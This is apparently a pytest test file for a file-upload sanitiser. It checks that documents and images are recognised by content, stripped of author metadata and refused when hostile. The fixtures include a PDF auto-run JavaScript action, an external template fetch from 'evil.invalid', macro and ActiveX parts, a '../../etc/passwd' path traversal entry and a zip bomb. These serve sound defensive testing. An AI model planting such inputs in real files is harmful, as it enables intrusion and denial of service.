"""Strangers' files: known by their content, cleaned, read; hostile ones refused by name."""

import io
import sys
import zipfile

import pikepdf
import pytest
import typst
from docx import Document
from openpyxl import Workbook
from PIL import Image

from cauhien.core import scanning
from cauhien.core.filetypes import Flaw, Kind, NotAcceptable
from cauhien.core.inspecting import inspect, look
from cauhien.core.scanning import Scan

NAME = "Nguyễn Văn An"


def a_pdf(**options):
    out = io.BytesIO()
    source = f'#set document(author: "{NAME}", title: "Hồ sơ")\nNhóm của {NAME}'.encode()
    with pikepdf.open(io.BytesIO(typst.compile(source))) as pdf:
        pdf.save(out, **options)
    return out.getvalue()


def a_docx(*paragraphs):
    out, document = io.BytesIO(), Document()
    document.core_properties.author = document.core_properties.last_modified_by = NAME
    for text in paragraphs:
        document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def an_xlsx(text):
    out, book = io.BytesIO(), Workbook()
    book.properties.creator = NAME
    book.active["A1"] = text
    book.save(out)
    return out.getvalue()


def a_picture(form):
    out, image = io.BytesIO(), Image.new("RGB", (20, 10), "green")
    exif = image.getexif()
    exif[0x013B] = "Nguyen Van An"
    image.save(out, form, exif=exif)
    return out.getvalue()


def with_part(data, name, content):
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as package:
        package.writestr(name, content)
    return out.getvalue()


def flaw_of(data):
    said, _clean = look(data)
    return said.get("flaw")


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (a_pdf(), Kind.PDF),
        (a_docx("Xin chào"), Kind.DOCX),
        (an_xlsx("Xin chào"), Kind.XLSX),
        (a_picture("PNG"), Kind.PNG),
        (a_picture("JPEG"), Kind.JPEG),
    ],
)
def test_a_file_is_known_by_its_content_and_loses_who_made_it(data, kind):
    found = inspect(data)

    assert found.kind == kind
    assert not any(name.encode() in found.data for name in ("Nguyen Van An", "docProps"))
    assert inspect(found.data).kind == kind


def test_what_can_be_read_is_told_place_by_place():
    assert inspect(a_docx("Một", "", "Hai")).places == [
        [["paragraph", 1], "Một"],
        [["paragraph", 2], "Hai"],
    ]
    assert inspect(a_pdf()).places == [[["page", 1], f"Nhóm của {NAME}"]]
    assert inspect(an_xlsx("Ba")).places == [[["cell", 1], "Ba"]]
    assert inspect(a_picture("PNG")).places == []


def test_a_cleaned_pdf_names_no_author_and_runs_nothing():
    with pikepdf.open(io.BytesIO(a_pdf())) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        pdf.Root.OpenAction = script
        pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", script]))
        out = io.BytesIO()
        pdf.save(out)

    _said, clean = look(out.getvalue())

    with pikepdf.open(io.BytesIO(clean)) as pdf:
        assert "/Info" not in pdf.trailer
        assert "/OpenAction" not in pdf.Root
        assert "/Metadata" not in pdf.Root
        assert "/JavaScript" not in pdf.Root.get("/Names", {})


def test_a_cleaned_document_still_opens_and_says_the_same():
    clean = inspect(a_docx("Nhóm của chúng tôi")).data

    document = Document(io.BytesIO(clean))
    assert [p.text for p in document.paragraphs] == ["Nhóm của chúng tôi"]
    assert document.core_properties.author != NAME


WORD = a_docx("Xin chào")
DEAR = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
FETCHES = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="r1" Type="http://x/attachedTemplate" '
    b'Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
)


@pytest.mark.parametrize(
    ("data", "flaw"),
    [
        (b"", Flaw.UNKNOWN),
        (b"MZ\x90\x00 a program called plan.pdf", Flaw.UNKNOWN),
        (b"<html><script>alert(1)</script>", Flaw.UNKNOWN),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 old Word", Flaw.OLD_OFFICE),
        (b"%PDF-1.7 and nothing more", Flaw.BROKEN),
        (b"PK\x03\x04 no archive", Flaw.BROKEN),
        (a_picture("PNG")[:60], Flaw.BROKEN),
        (WORD[: len(WORD) // 2], Flaw.BROKEN),
        (a_pdf(encryption=pikepdf.Encryption(owner="o", user="u")), Flaw.ENCRYPTED),
        (a_pdf(encryption=pikepdf.Encryption(owner="o", user="")), Flaw.ENCRYPTED),
        (with_part(WORD, "word/vbaProject.bin", b"x"), Flaw.MACROS),
        (with_part(WORD, "word/embeddings/oleObject1.bin", b"x"), Flaw.MACROS),
        (with_part(WORD, "word/activeX/activeX1.xml", b"x"), Flaw.MACROS),
        (with_part(WORD, "word/_rels/settings.xml.rels", FETCHES), Flaw.OUTSIDE),
        (with_part(WORD, "word/_rels/other.xml.rels", DEAR), Flaw.OUTSIDE),
        (with_part(WORD, "../../etc/passwd", b"x"), Flaw.BROKEN),
    ],
)
def test_what_is_not_acceptable_is_refused_by_name(data, flaw):
    assert flaw_of(data) == flaw


def test_an_archive_that_unpacks_to_too_much_is_refused(monkeypatch):
    bomb = io.BytesIO(WORD)
    with zipfile.ZipFile(bomb, "a", zipfile.ZIP_DEFLATED) as package:
        for number in range(31):
            package.writestr(f"word/media/{number}.xml", b"\0" * (10 << 20))

    assert flaw_of(bomb.getvalue()) == Flaw.TOO_MUCH


def test_a_picture_with_too_many_points_is_refused():
    out = io.BytesIO()
    Image.new("1", (20_000, 10_000)).save(out, "PNG")

    assert flaw_of(out.getvalue()) == Flaw.TOO_MUCH


def test_a_hostile_file_harms_only_a_process_of_its_own():
    with pytest.raises(NotAcceptable) as refusal:
        inspect(b"%PDF-1.7 and nothing more")

    assert refusal.value.flaw == Flaw.BROKEN


@pytest.mark.parametrize(
    ("code", "answer"), [(0, Scan.CLEAN), (1, Scan.FOUND), (2, Scan.FAILED), (77, Scan.FAILED)]
)
def test_the_scanner_is_asked_and_what_is_no_answer_counts_as_failed(settings, code, answer):
    settings.MALWARE_SCANNER = f"{sys.executable} -c 'import sys; sys.exit({code})'"

    assert scanning.scan(b"x") == answer


def test_a_scanner_that_is_not_there_fails_and_none_is_off(settings):
    settings.MALWARE_SCANNER = "/no/such/scanner"
    assert scanning.scan(b"x") == Scan.FAILED
    settings.MALWARE_SCANNER = ""
    assert scanning.scan(b"x") == Scan.OFF
